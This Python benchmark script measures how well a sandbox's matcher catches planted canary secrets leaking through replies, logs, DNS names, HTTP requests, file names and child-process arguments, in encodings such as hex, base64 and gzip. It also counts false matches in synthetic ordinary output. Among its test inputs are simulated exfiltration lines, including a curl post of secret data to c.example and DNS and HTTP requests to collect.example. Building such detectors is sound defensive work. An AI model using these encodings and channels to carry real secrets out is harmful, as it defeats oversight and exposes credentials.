"""How many planted secrets are recognised on their way out, and how many are seen that are not.

``python benchmarks/recall.py`` prints Markdown; with ``--size`` bytes (default: 1 GB) of ordinary
output for the false matches, made anew from a fixed seed. Nothing else is needed.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import html
import json
import random
import sys
import sysconfig
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

from mcp_sandbox.planted import Matcher, Planted, make

SEED = 20
GIGABYTE = 10**9
_PIECE = 2**20
_LABEL, _NAME = 63, 200

Hits = set[str]
"""Places."""


def planted(seed: int = SEED) -> Planted:
    """What a scan plants for a server with a folder and two settings of its own."""
    return make(
        "recall",
        home="/home/app",
        declared=("OPENAI_API_KEY", "DATABASE_URL"),
        directories=("/srv/allow",),
        randbelow=random.Random(seed).randrange,
    )


# --- encodings ------------------------------------------------------------------------------------


def _offsets(encode: Callable[[bytes], bytes], count: int) -> Callable[[bytes], list[bytes]]:
    return lambda secret: [encode(b"token="[:offset] + secret) for offset in range(count)]


def _escapes(secret: bytes) -> list[bytes]:
    return [
        "".join(f"\\u{byte:04x}" for byte in secret).encode(),
        "".join(f"&#{byte};" for byte in secret).encode(),
        "".join(f"&#x{byte:x};" for byte in secret).encode(),
        html.escape(json.dumps(secret.decode())).encode(),
    ]


def _percent(secret: bytes) -> list[bytes]:
    return [quote(secret, safe="").encode(), "".join(f"%{byte:02X}" for byte in secret).encode()]


ENCODINGS: dict[str, Callable[[bytes], list[bytes]]] = {
    "plain": lambda secret: [secret],
    "hex": lambda secret: [secret.hex().encode(), secret.hex().upper().encode()],
    "base64": _offsets(base64.urlsafe_b64encode, 3),
    "base32": _offsets(base64.b32encode, 5),
    "URL": _percent,
    "gzip": lambda secret: [gzip.compress(secret, mtime=0)],
    "reversed": lambda secret: [secret[::-1]],
    "JSON, HTML": _escapes,
}
"""Name -> the forms of a secret. ``gzip`` travels in base64 where only text can."""


# --- ways out -------------------------------------------------------------------------------------


def _text(data: bytes) -> str:
    """``data`` as text: gzip in base64."""
    if data.startswith(b"\x1f\x8b"):
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
    return data.decode()


def _reply(matcher: Matcher, data: bytes) -> Hits:
    content = [{"type": "text", "text": f"Done.\n{_text(data)}\n"}]
    message = {"jsonrpc": "2.0", "id": 7, "result": {"content": content, "isError": False}}
    return _places(matcher.find(json.dumps(message).encode() + b"\n"))


def _log(matcher: Matcher, data: bytes) -> Hits:
    return _places(matcher.find(b"2026-01-15 12:30:00,123 INFO server: got " + data + b"\n"))


def _names(data: bytes) -> list[str]:
    """Questions below one zone, with a counter: three labels of data each."""
    text = _text(data).replace("\n", "")
    labels = [text[at : at + _LABEL] for at in range(0, len(text), _LABEL)]
    return [
        f"{number}.{'.'.join(labels[at : at + 3])}.s1.collect.example"
        for number, at in enumerate(range(0, len(labels), 3))
    ]


def _dns(matcher: Matcher, data: bytes) -> Hits:
    asked = [name for name in _names(data) for _ in ("A", "AAAA")]
    return _places(matcher.find_in_names(asked))


def _http(matcher: Matcher, data: bytes) -> Hits:
    """In the query, and in the body; both must be seen."""
    host = "HTTP/1.1\r\nHost: collect.example\r\nUser-Agent: python-requests/2.32\r\n"
    query = f"GET /c?v=1&d={quote(_text(data), safe='')} {host}\r\n".encode()
    body = f"POST /c {host}Content-Length: {len(data) + 5}\r\n\r\ndata=".encode() + data
    return _places(matcher.find(query)) & _places(matcher.find(body))


def _quoted(text: str) -> str:
    """As strace writes a string."""
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def _traced(matcher: Matcher, line: str) -> Hits:
    """Far inside a trace, read in pieces that cut it anywhere."""
    other = b'9 1763726181.5 openat(AT_FDCWD</srv>, "/usr/lib/a.py", O_RDONLY) = 3</usr/lib/a.py>\n'
    data = other * 4_000 + line.encode() + other * 10
    cut = len(other) * 4_000 + len(line) // 2
    return _places(matcher.find_in((data[:cut], data[cut:])))


def _file_name(matcher: Matcher, data: bytes) -> Hits:
    name = _quoted(_text(data).replace("/", "_"))
    path = f"/tmp/cache-{name}"
    flags = "O_WRONLY|O_CREAT|O_CLOEXEC, 0600"
    line = f'7 1763726181.1 openat(AT_FDCWD</srv>, "{path}", {flags}) = 4<{path}>\n'
    return _traced(matcher, line)


def _file_content(matcher: Matcher, data: bytes) -> Hits:
    return _places(matcher.find(b"# cache\nvalue = " + data + b"\nend\n"))


def _argument(matcher: Matcher, data: bytes) -> Hits:
    argument = _quoted(_text(data))
    line = (
        f'7 1763726181.1 execve("/usr/bin/curl", ["curl", "-sd", "{argument}", "http://c.example/"],'
        " 0x7ffd4a5c1d10 /* 21 vars */) = 0\n"
    )
    return _traced(matcher, line)


def _notification(matcher: Matcher, data: bytes) -> Hits:
    params = {"level": "info", "logger": "server", "data": {"note": _text(data)}}
    message = {"jsonrpc": "2.0", "method": "notifications/message", "params": params}
    return _places(matcher.find(json.dumps(message, ensure_ascii=False).encode() + b"\n"))


WAYS: dict[str, Callable[[Matcher, bytes], Hits]] = {
    "reply": _reply,
    "log line": _log,
    "DNS labels": _dns,
    "HTTP request": _http,
    "file name": _file_name,
    "file content": _file_content,
    "child's argument": _argument,
    "notification": _notification,
}


def _places(hits: tuple[object, ...]) -> Hits:
    return {str(getattr(hit, "place", "")) for hit in hits}


@dataclass(frozen=True)
class Cell:
    """One way out in one encoding."""

    way: str
    encoding: str
    tried: int
    missed: tuple[str, ...]
    """Places whose secret was not named, or not it alone."""


def recall(bait: Planted | None = None) -> list[Cell]:
    """Every secret of a run, in every form, on every way out."""
    bait = bait or planted()
    matcher = Matcher(bait)
    cells = []
    for way, send in WAYS.items():
        for encoding, forms in ENCODINGS.items():
            tried, missed = 0, []
            for place, value in bait.values.items():
                for form in forms(value.encode()):
                    tried += 1
                    if send(matcher, form) != {place}:
                        missed.append(place)
            cells.append(Cell(way, encoding, tried, tuple(missed)))
    return cells


# --- ordinary output ------------------------------------------------------------------------------

_WORDS = (
    *("the", "server", "returned", "a", "list", "of", "files", "and", "notes", "for", "this"),
    *("project", "with", "session", "token", "user", "path", "data", "value", "error", "request"),
    *("response", "content", "result", "type", "text", "name", "time", "index", "module"),
)


def _json_replies(rng: random.Random) -> bytes:
    texts = (
        {"type": "text", "text": " ".join(rng.choices(_WORDS, k=40)), "id": rng.getrandbits(64)}
        for _ in range(400)
    )
    return b"\n".join(
        json.dumps({"jsonrpc": "2.0", "id": at, "result": {"content": [text]}}).encode()
        for at, text in enumerate(texts)
    )


def _logs(rng: random.Random) -> bytes:
    return b"".join(
        f"2026-01-15T12:{rng.randrange(60):02}:{rng.randrange(60):02}.{rng.randrange(1000):03}Z "
        f"{rng.choice(('INFO', 'DEBUG', 'WARN'))} [{rng.getrandbits(48):012x}] "
        f"{' '.join(rng.choices(_WORDS, k=9))} took={rng.randrange(900)}ms %{rng.randrange(99)}\n"
        .encode()
        for _ in range(600)
    )  # fmt: skip


def _trace(rng: random.Random) -> bytes:
    lines = []
    for _ in range(500):
        path = "/" + "/".join(rng.choices(_WORDS, k=rng.randrange(2, 7))) + ".py"
        ends = rng.choice((f"3<{path}>", "-1 ENOENT (No such file or directory)"))
        lines.append(
            f"{rng.randrange(7, 90)} {1763726181 + rng.random():.6f} "
            f'openat(AT_FDCWD</srv/app>, "{path}", O_RDONLY|O_CLOEXEC) = {ends}\n'
        )
    return "".join(lines).encode()


def _sources() -> list[bytes]:
    folder = Path(sysconfig.get_path("stdlib"))
    return [path.read_bytes() for path in sorted(folder.glob("*.py"))]


def ordinary(size: int, seed: int = SEED) -> Iterator[tuple[str, bytes]]:
    """Kind and piece, ``size`` bytes in all: the kinds take turns."""
    rng = random.Random(seed)
    sources = _sources()
    kinds: dict[str, Callable[[], bytes]] = {
        "JSON replies": lambda: _json_replies(rng),
        "logs": lambda: _logs(rng),
        "a kernel's trace": lambda: _trace(rng),
        "source code": lambda: rng.choice(sources),
        "base64": lambda: base64.encodebytes(rng.randbytes(48 * 2**10)),
        "hex dumps": lambda: rng.randbytes(32 * 2**10).hex(" ").encode(),
        "base64 of gzip": lambda: base64.b64encode(gzip.compress(rng.choice(sources), 6, mtime=0)),
        "random bytes": lambda: rng.randbytes(64 * 2**10),
    }
    share = size // len(kinds)
    for kind, piece in kinds.items():
        # A block of pieces, told apart from its next use by a line of its own.
        made = b"\n".join(piece() for _ in range(24))
        left = share
        while left > 0:
            fresh = f"\n{rng.getrandbits(128):032x}\n".encode() + piece() + b"\n" + made
            for at in range(0, len(fresh), _PIECE):
                part = fresh[at : at + min(_PIECE, left)]
                left -= len(part)
                yield kind, part
                if left <= 0:
                    break


@dataclass
class Quiet:
    """What was searched of one kind, and what was found."""

    size: int = 0
    seconds: float = 0.0
    hits: int = 0


def false_matches(size: int, seed: int = SEED) -> dict[str, Quiet]:
    """Search ``size`` bytes in which no secret is; only the search is timed."""
    matcher = Matcher(planted())
    found: dict[str, Quiet] = {}
    for kind, piece in ordinary(size, seed):
        quiet = found.setdefault(kind, Quiet())
        began = time.perf_counter()
        hits = matcher.find_in((piece,))
        quiet.seconds += time.perf_counter() - began
        quiet.size += len(piece)
        quiet.hits += len(hits)
    return found


def main() -> int:
    """Print both tables. 1 when something was missed or wrongly found."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--size", type=int, default=GIGABYTE, help="bytes of ordinary output")
    size = parser.parse_args().size
    cells = recall()
    good = [cell for cell in cells if not cell.missed]
    print(f"Recognised: {len(good)} of {len(cells)} ways and encodings, each with all of the")
    print(f"{len(planted().places)} secrets ({sum(cell.tried for cell in cells):,} trials).\n")
    print("| way out |", " | ".join(ENCODINGS), "|")
    print("| --- |" + " --- |" * len(ENCODINGS))
    for way in WAYS:
        row = [cell for cell in cells if cell.way == way]
        shares = (f"{cell.tried - len(cell.missed)}/{cell.tried}" for cell in row)
        print(f"| {way} |", " | ".join(shares), "|")
    quiet = false_matches(size)
    print("\n| ordinary output | MB | false matches | MB/s |\n| --- | --- | --- | --- |")
    for kind, one in quiet.items():
        speed = one.size / max(one.seconds, 1e-9) / 1e6
        print(f"| {kind} | {one.size / 1e6:.0f} | {one.hits} | {speed:.0f} |")
    return int(len(good) < len(cells) or any(one.hits for one in quiet.values()))


if __name__ == "__main__":
    sys.exit(main())
